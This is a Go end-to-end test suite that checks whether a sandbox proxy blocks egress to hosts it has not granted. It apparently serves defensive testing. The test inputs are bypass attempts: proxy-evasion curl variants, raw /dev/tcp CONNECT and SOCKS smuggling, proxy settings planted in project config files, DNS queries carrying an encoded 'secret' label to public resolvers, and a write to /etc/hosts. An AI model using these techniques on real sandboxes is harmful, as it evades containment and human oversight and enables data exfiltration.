package e2e

import (
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/fractalboxdev/sbx/internal/event"
	"github.com/fractalboxdev/sbx/internal/sbxtest"
)

// ways are how a program asks for $1; each prints the status.
var ways = map[string]string{
	"curl":            `curl -sS -o /dev/null -w '%{http_code}\n' $1`,
	"no environment":  `env -i /usr/bin/curl -sS -o /dev/null -w '%{http_code}\n' $1`,
	"NO_PROXY=*":      `NO_PROXY='*' no_proxy='*' curl -sS -o /dev/null -w '%{http_code}\n' $1`,
	"empty variables": `HTTPS_PROXY= https_proxy= HTTP_PROXY= http_proxy= curl -sS -o /dev/null -w '%{http_code}\n' $1`,
	"relay":           `curl -sS -x http://127.0.0.1:9000 -o /dev/null -w '%{http_code}\n' $1`,
	"node":            `node -e 'fetch(process.argv[1]).then(r => console.log(r.status), e => console.log(e))' $1`,
	"python": `/usr/bin/python3 -c 'import http.client, sys, urllib.parse as u
url = u.urlsplit(sys.argv[1])
c = {"https": http.client.HTTPSConnection, "http": http.client.HTTPConnection}[url.scheme](url.netloc)
c.request("GET", url.path); print(c.getresponse().status)' $1`,
	"static Go": `./goclient $1`,
}

// buildGo compiles a program of testdata for the lab's users.
func buildGo(t *testing.T, name string) string {
	t.Helper()
	program := filepath.Join(t.TempDir(), name)
	build := exec.CommandContext(t.Context(), "go", "build", "-o", program, "./testdata/"+name)
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("compiling %s: %v\n%s", name, err, out)
	}
	return contents(t, program)
}

// Whether or not a program knows proxies, what is granted answers and what is
// not is refused, with the same records.
func TestCase62_EveryWayToAskIsTheSame(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Serve("ok.test", http.HandlerFunc(ok))
	program := buildGo(t, "goclient")
	urls := []string{"https://ok.test/a/b", "https://unlisted.test/a/b", "http://unlisted.test/a/b"}
	everyone(t, func(t *testing.T, who sbxtest.User) {
		lab.Write(who, "goclient", program)
		lab.Write(who, "relay.py", contents(t, "testdata/relay.py"))
		script := "/usr/bin/python3 relay.py >ready & until grep -q ready ready 2>/dev/null; do :; done\n"
		for _, name := range slices.Sorted(keys(ways)) {
			script += "way() {\n" + ways[name] + "\n}\necho '" + name + "' $(for url in " + strings.Join(urls, " ") + "; do way $url 2>&1; done)\n"
		}
		got := shell(t, lab, who, script+"kill $!", "--profile", "browser-fetch", "--input", "target=ok.test")
		succeeded(t, got)
		for name := range ways {
			if !strings.Contains(got.Stdout, name+" 200 520 520\n") {
				t.Errorf("%s: want 200 520 520 in %s", name, got.Stdout)
			}
		}
		rows := got.Denials(t)
		if len(rows) != 1 || rows[0].Count != 2*len(ways) {
			t.Errorf("denied: %+v, want one row of %d", rows, 2*len(ways))
		}
	})
}

func keys[V any](m map[string]V) func(func(string) bool) {
	return func(yield func(string) bool) {
		for k := range m {
			if !yield(k) {
				return
			}
		}
	}
}

// spokenToTheProxy is what a program may send to the proxy's own port, a part of
// the answer, and the code of the row.
var spokenToTheProxy = []struct{ message, answer, code string }{
	{`GET http://unlisted.test/a HTTP/1.1\r\nHost: unlisted.test\r\n\r\n`, "520", "host-not-granted"},
	{`CONNECT unlisted.test:80 HTTP/1.1\r\nHost: unlisted.test:80\r\n\r\nGET / HTTP/1.1\r\nHost: unlisted.test\r\n\r\n`, "520", "host-not-granted"},
	{`CONNECT unlisted.test:22 HTTP/1.1\r\nHost: unlisted.test:22\r\n\r\nSSH-2.0-x\r\n`, "", "host-not-granted"},
	{`CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\nSSH-2.0-x\r\n`, "", "host-not-granted"},
	{`CONNECT ok.test:80 HTTP/1.1\r\nHost: ok.test:80\r\n\r\nCONNECT unlisted.test:80 HTTP/1.1\r\nHost: unlisted.test:80\r\n\r\n`, "403", "connect-not-granted"},
	{`\005\001\000`, "", "not-http"},
	{`\004\001\000\120\001\001\001\001\000`, "", "not-http"},
}

// What speaks to the proxy's own port is judged like everything else.
func TestCase62_TheProxyItselfIsNoWayRound(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Serve("ok.test", http.HandlerFunc(ok))
	lab.Serve("unlisted.test", http.HandlerFunc(leak))
	script, want := "address=${http_proxy#http://}\n", []string{}
	for _, m := range spokenToTheProxy {
		script += "exec 3<>/dev/tcp/${address%:*}/${address#*:}; printf '" + m.message + "' >&3; echo \"answer $(timeout 20 cat <&3 | tr -d '\\r\\n')\"\n"
		want = append(want, m.code)
	}
	everyone(t, func(t *testing.T, who sbxtest.User) {
		before := watching(lab)
		got := shell(t, lab, who, script, "--profile", "browser-fetch", "--input", "target=ok.test")
		succeeded(t, got)
		before.nothingLeft(t)
		if diff := cmp.Diff(want, codes(got.Requests(t))); diff != "" {
			t.Errorf("the rows (-want +got):\n%s", diff)
		}
		answers := strings.Split(strings.TrimSuffix(got.Stdout, "\n"), "\n")
		if len(answers) != len(spokenToTheProxy) || strings.Contains(got.Stdout, "LEAKED") {
			t.Fatalf("answers: %q", answers)
		}
		for i, m := range spokenToTheProxy {
			if !strings.Contains(answers[i], m.answer) {
				t.Errorf("%s: answer %q, want %q in it", m.message, answers[i], m.answer)
			}
		}
	})
}

// A proxy that the project's files name for another network, or that a variable
// names, is not asked where a client would obey its files.
func TestCase62_ProxiesOfTheProjectDoNoHarm(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Configure(everything)
	lab.ServeNPM(t, "npm.test", sbxtest.Package{Name: "pkg", Version: "1.0.0"})
	lab.ServeCrates(t, "index.crates.io", "static.crates.io", "crab-crate")
	clients := javascript("", "pkg")
	for i := range clients {
		clients[i].files += `; printf 'proxy=http://corp.test:8080\nhttps-proxy=http://corp.test:8080\n' >.npmrc
			printf 'httpProxy: "http://corp.test:8080"\nhttpsProxy: "http://corp.test:8080"\n' >.yarnrc.yml`
	}
	clients = append(clients, client{"cargo", cargoProject("crab-crate") + `; mkdir .cargo; printf '[http]\nproxy = "corp.test:8080"\n' >.cargo/config.toml`, "/usr/bin/cargo fetch"})
	everyone(t, func(t *testing.T, who sbxtest.User) {
		got, ends := runClients(t, lab, who, clients, withProfiles("js-install rust-install", "--no-cache")...)
		noDenials(t, got)
		for _, c := range clients {
			if ends[c.name].status != 0 {
				t.Errorf("%s: status %d: %s", c.name, ends[c.name].status, ends[c.name].output)
			}
		}
		wrong := shell(t, lab, who, "HTTPS_PROXY=http://corp.test:8080 https_proxy=http://corp.test:8080 curl -sS https://npm.test/pkg; echo $?", withProfiles("js-install")...)
		printed(t, wrong, "56\n") // curl's: the tunnel was refused
		if row := onlyDenial(t, wrong); row.Host != "npm.test" || row.Code != "connect-not-granted" {
			t.Errorf("the row is %+v", row)
		}
	})
}

// Nothing is asked of the world's name server for what is not granted, whoever
// is asked and however; what is granted has an address that leads to it.
func TestCase70_NoSideChannelByNames(t *testing.T) {
	lab := sbxtest.NewLab(t)
	lab.Serve("ok.test", http.HandlerFunc(ok))
	questions := []string{
		`ask('8.8.8.8', 'c2VjcmV0.denied.test')`, `ask('1.1.1.1', 'c2VjcmV0.denied.test', tcp=True)`, `ask('8.8.8.8', 'c2VjcmV0.denied.test', 16)`,
		`ask('8.8.8.8', 'c2VjcmV0.denied.test', 5)`, `ask('8.8.8.8', 'c2VjcmV0.denied.test', 65)`, `ask('8.8.8.8', '4.4.8.8.in-addr.arpa', 12)`,
		`ask('11.22.33.53', 'c2VjcmV0.ok.test')`, `ask('8.8.8.8', 'c2VjcmV0.ok.test', 28)`, `ask('8.8.8.8', 'ok.test', 16)`,
		`datagram(('224.0.0.251', 5353))`, `datagram(('224.0.0.252', 5355))`, `datagram(('8.8.8.8', 853))`,
		`status(('8.8.8.8', 853))`, `status(('1.1.1.1', 80))`, `open('/etc/hosts', 'a')`, `gethostbyname('c2VjcmV0.denied.test')`,
	}
	everyone(t, func(t *testing.T, who sbxtest.User) {
		lab.Write(who, "escape.py", contents(t, "testdata/escape.py"))
		lab.Write(who, "questions", strings.Join(questions, "\n")+"\n")
		before := watching(lab)
		flags := []string{"--profile", "browser-fetch", "--input", "target=ok.test"}
		got := shell(t, lab, who, "/usr/bin/python3 escape.py <questions; getent hosts denied.test; "+
			status+"-H 'accept: application/dns-message' 'https://dns.test/dns-query?dns=AAAB'", flags...)
		succeeded(t, got)
		before.nothingLeft(t)
		if !strings.HasSuffix(got.Stdout, "520 ") {
			t.Errorf("answers: %s", got.Stdout)
		}
		names := map[string]int{}
		for _, row := range got.Denials(t) {
			if row.Source == event.SourceDNS {
				names[row.Host] += row.Count
			}
		}
		if diff := cmp.Diff(map[string]int{"c2vjcmv0.denied.test": 1, "c2vjcmv0.ok.test": 1, "denied.test": 1}, names); diff != "" {
			t.Errorf("names in the report (-want +got):\n%s", diff)
		}
		printed(t, shell(t, lab, who, status+"https://ok.test/", flags...), "200 ")
		for _, asked := range lab.Lookups()[before.lookups:] {
			if !strings.HasSuffix(asked, " ok.test") {
				t.Errorf("the world's name server was asked: %s", asked)
			}
		}
	})
}
